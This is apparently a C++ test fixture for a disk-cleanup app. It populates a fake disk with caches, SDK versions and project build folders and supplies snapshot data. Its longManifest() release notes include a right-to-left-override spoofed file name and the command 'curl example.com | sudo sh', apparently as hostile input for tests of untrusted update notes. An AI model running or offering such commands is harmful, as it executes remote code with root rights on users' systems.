#include "SnapshotData.h"

#include "scanner/PlatformCatalogue.h"
#include "scanner/Scanner.h"
#include "support/FakeDisk.h"
#include "tools/catalogue-docs/CatalogueProbe.h"

#include <QCoroTask>
#include <QDateTime>
#include <QFile>

#include <fcntl.h>
#include <sys/stat.h>

namespace {

constexpr qint64 MB = 1'000'000;
constexpr qint64 GB = 1'000'000'000;

// A folder of `files` files that together reserve about `bytes`.
void fill(const FakeDisk& disk, const QString& folder, qint64 bytes, int files = 3) {
    for (int index = 0; index < files; ++index) {
        disk.allocateFile(folder + QStringLiteral("/blob-%1.bin").arg(index), bytes / files);
    }
}

// Fills each fixed place of the catalogue that a developer's home of the kind has: on a Mac the
// shared catalogue's, elsewhere this system's own and those of the shared one outside the Mac's
// Library folders; a tool with two places, only the first. Each gets a size and a number of
// files of its own, spread by its name so that every picture shows the same rows in the same
// order.
void fillCatalogue(const FakeDisk& disk, bool mac) {
    QStringList filled;
    for (const CatalogueProbe::Place& place : CatalogueProbe::places()) {
        const bool inLibrary = place.item.path.split(QLatin1Char('/')).contains(u"Library");
        if ((mac ? place.systemOnly : inLibrary) || filled.contains(place.item.name)) {
            continue;
        }
        filled.append(place.item.name);
        quint32 hash = 2'166'136'261U; // FNV-1a: the same on every run, unlike a seeded qHash
        for (const QChar character : place.item.name) {
            hash = (hash ^ character.unicode()) * 16'777'619U;
        }
        QString path = place.item.path;
        if (path.startsWith(QLatin1Char('~'))) {
            path.replace(0, 1, disk.home());
        }
        fill(disk, path, (12 + hash % 480) * MB, 3 + static_cast<int>(hash / 480 % 6));
    }
}

// A project's own files at `folder`, last changed `days` ago.
void project(const FakeDisk& disk, const QString& folder, const QStringList& files, int days) {
    const timespec changed{QDateTime::currentSecsSinceEpoch() - days * 86'400LL - 3'600, 0};
    const timespec times[] = {changed, changed};
    for (const QString& file : files) {
        const QString path = folder + QLatin1Char('/') + file;
        disk.writeFile(path, 2'000);
        ::utimensat(AT_FDCWD, QFile::encodeName(disk.real(path)).constData(), times, 0);
    }
}

} // namespace

void SnapshotData::populate(const FakeDisk& disk) {
    fillCatalogue(disk, true);
    const QString home = disk.home();
    const QString caches = home + QStringLiteral("/Library/Caches");
    fill(disk, caches + QStringLiteral("/com.microsoft.VSCode.ShipIt"), 112 * MB);
    fill(disk, caches + QStringLiteral("/com.example.Notes.updater"), 61 * MB);
    fill(disk, caches + QStringLiteral("/com.example.Browser"), 90 * MB); // not an updater
    const QString ndk = home + QStringLiteral("/Library/Android/sdk/ndk");
    fill(disk, ndk + QStringLiteral("/25.2.9519653"), 152 * MB);
    fill(disk, ndk + QStringLiteral("/26.1.10909125"), 163 * MB);
    fill(disk, ndk + QStringLiteral("/27.0.12077973"), 170 * MB);
    fill(disk, QStringLiteral("/Library/Developer/CoreSimulator/Volumes/iOS_21A328"), 204 * MB);
    fill(disk,
         home + QStringLiteral("/Library/Containers/com.example.reader/Data/Library/"
                               "Application Support/Downloads"),
         131 * MB);
}

void SnapshotData::populateLinux(const FakeDisk& disk) {
    fillCatalogue(disk, false);
    const QString home = disk.home();
    const PlatformCatalogue own = PlatformCatalogue::of(*disk.fileSystem(), home);
    for (const QString& cache : own.updaterStagingFolders) {
        fill(disk, cache + QStringLiteral("/com.example.notes-updater"), 61 * MB);
        fill(disk, cache + QStringLiteral("/mesa_shader_cache"), 90 * MB); // not an updater
    }
    for (const QString& ndk : own.ndkFolders) {
        fill(disk, ndk + QStringLiteral("/25.2.9519653"), 152 * MB);
        fill(disk, ndk + QStringLiteral("/26.1.10909125"), 170 * MB);
    }

    // Projects: two left alone for months, one worked on this week, one with an environment.
    const QString webapp = home + QStringLiteral("/code/webapp");
    project(disk, webapp, {QStringLiteral("package.json"), QStringLiteral("pnpm-lock.yaml")}, 94);
    fill(disk, webapp + QStringLiteral("/node_modules/.pnpm"), 612 * MB, 12);
    fill(disk, webapp + QStringLiteral("/.next/cache"), 86 * MB);
    const QString engine = home + QStringLiteral("/code/engine");
    project(disk, engine, {QStringLiteral("Cargo.toml"), QStringLiteral("src/main.rs")}, 2);
    fill(disk, engine + QStringLiteral("/target/debug"), 1'870 * MB, 12);
    const QString app = home + QStringLiteral("/projects/android-app");
    project(disk, app, {QStringLiteral("settings.gradle.kts")}, 63);
    fill(disk, app + QStringLiteral("/build/intermediates"), 238 * MB, 8);
    fill(disk, app + QStringLiteral("/.gradle/8.7"), 41 * MB);
    const QString tools = home + QStringLiteral("/projects/ml-tools");
    project(disk, tools, {QStringLiteral("pyproject.toml"), QStringLiteral(".venv/pyvenv.cfg")},
            120);
    fill(disk, tools + QStringLiteral("/.venv/lib"), 530 * MB, 8);
    fill(disk, tools + QStringLiteral("/.mypy_cache/3.11"), 24 * MB);
}

QList<FolderItem> SnapshotData::builtInItems(const QString& home) {
    // What the program's own scanner makes of a Mac layout: the list can never disagree with the
    // catalogue about a target's texts, tier or initial selection.
    const FakeDisk disk(home);
    populate(disk);
    Scanner scanner(disk.fileSystem());
    return QCoro::waitFor(scanner.scanAll({}));
}

DiskSpaceInfo SnapshotData::disk() {
    return {494'384'795'648, 131 * GB};
}

QByteArray SnapshotData::longManifest() {
    QByteArray notes = "Scans are up to twice as fast on large caches.\\n\\n"
                       "See \\u202egnp.exe and run:\\u2028curl example.com | sudo sh\\n";
    for (int line = 0; line < 1000; ++line) {
        notes += "- Fixed issue " + QByteArray::number(line) + " in the window.\\n";
    }
    return R"({"version": "2.4.0", "build": 120, "releaseNotes": ")" + notes +
           R"(", "downloadURL": "https://example.com/download"})";
}
